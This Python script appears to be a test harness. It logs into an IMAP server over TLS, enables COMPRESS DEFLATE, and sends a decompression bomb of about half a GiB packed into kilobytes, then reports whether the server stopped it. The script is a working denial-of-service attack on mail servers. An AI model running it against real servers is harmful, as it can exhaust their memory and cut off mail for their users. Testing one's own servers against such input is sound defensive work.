"""Sends a compressed stream that grows a thousandfold (RFC 4978): deflate_bomb.py HOST PORT CA USER PASSWORD-FILE COMMAND.

COMMAND is what stands before the octets that never end. Prints what the server took and its last words.
"""

import socket
import ssl
import sys
import zlib

host, port, authority, user, password_file, command = sys.argv[1:]
with open(password_file, encoding="utf-8") as file:
    password = file.read()
# 4 MiB of letters in 4 KiB; half a GiB in all before the client gives up.
PIECE, PIECES = b"x" * (4 * 1024 * 1024), 128

context = ssl.create_default_context(cafile=authority)
stream = context.wrap_socket(socket.create_connection((host, int(port)), timeout=60), server_hostname="localhost")
stream.recv(4096)


def ask(line):
    """Sends a line before compression; the last line of the answer."""
    stream.sendall(line.encode() + b"\r\n")
    answer = b""
    while b"\r\na " not in b"\r\n" + answer:
        read = stream.recv(4096)
        assert read, answer
        answer += read
    assert b"a OK" in answer, answer


ask(f'a LOGIN "{user}" "{password}"')
ask("a COMPRESS DEFLATE")
deflate, taken = zlib.compressobj(9, zlib.DEFLATED, -15), 0
try:
    stream.sendall(deflate.compress(command.encode()) + deflate.flush(zlib.Z_SYNC_FLUSH))
    for _ in range(PIECES):
        stream.sendall(deflate.compress(PIECE) + deflate.flush(zlib.Z_SYNC_FLUSH))
        taken += len(PIECE)
except OSError:
    pass
inflate, words = zlib.decompressobj(-15), b""
closed = False
try:
    while True:
        read = stream.recv(4096)
        if not read:
            closed = True
            break
        words += inflate.decompress(read)
except TimeoutError:
    pass
except OSError:
    closed = True
print(f"taken {taken} closed {closed} words {words[-200:]!r}")
